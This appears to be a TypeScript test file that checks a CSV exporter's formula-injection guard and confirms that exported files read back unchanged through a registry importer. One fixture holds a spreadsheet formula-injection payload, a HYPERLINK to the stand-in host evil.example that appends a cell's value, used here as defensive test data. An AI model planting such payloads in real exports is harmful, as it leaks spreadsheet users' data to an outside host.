/**
 * Our CSV writer (domain/shared/spreadsheet-csv.ts) and the importers' reader are inverse: a file
 * we export reads back to exactly the values that went in, formula guard included.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { excelCsv } from '../../domain/shared/spreadsheet-csv.ts';
import { decodeCsvBytes } from './decode.ts';
import { parseRegistryCsv } from './parse-registry-csv.ts';
import { normaliseLineBreaks, readRecords } from './read-records.ts';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")';

function readBack(csv: string): string[][] {
  const decoded = decodeCsvBytes(Buffer.from(csv, 'utf8'));
  if (!decoded.ok) throw new Error(decoded.message);
  return readRecords(normaliseLineBreaks(decoded.text), ';').records.map((r) => r.cells);
}

const text = fc.string({
  unit: fc.oneof(
    fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ';', '"', ' ', 'æ'),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
  ),
  maxLength: 15,
});

describe('export → import', () => {
  it('returns every string as it was exported, line breaks as the importer normalises them (property)', () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (values) => {
        // A fixed first cell keeps the row from being skipped as blank.
        const rows = readBack(excelCsv(['id', ...values.map((_, i) => `c${i}`)], [['x', ...values]]));
        expect(rows[1]).toEqual(['x', ...values.map(normaliseLineBreaks)]);
      }),
      { numRuns: 1000 },
    );
  });

  it('reads a person named like a formula back unchanged from a registry file we wrote', () => {
    const csv = excelCsv(
      ['type', 'navn', 'email', 'telefon'],
      [['person', EVIL, 'ond@example.dk', '+45 86 00 00 00']],
    );
    expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")";`);
    const result = parseRegistryCsv(Buffer.from(csv, 'utf8'));
    expect(result.problems).toEqual([]);
    expect(result.rows.persons[0]).toMatchObject({ name: EVIL, phone: '+45 86 00 00 00' });
  });

  it('leaves a cell the writer did not guard alone, even when it starts with a quote', () => {
    expect(readBack("id;navn\r\nx;'Bolig\r\n")[1]).toEqual(['x', "'Bolig"]);
  });
});
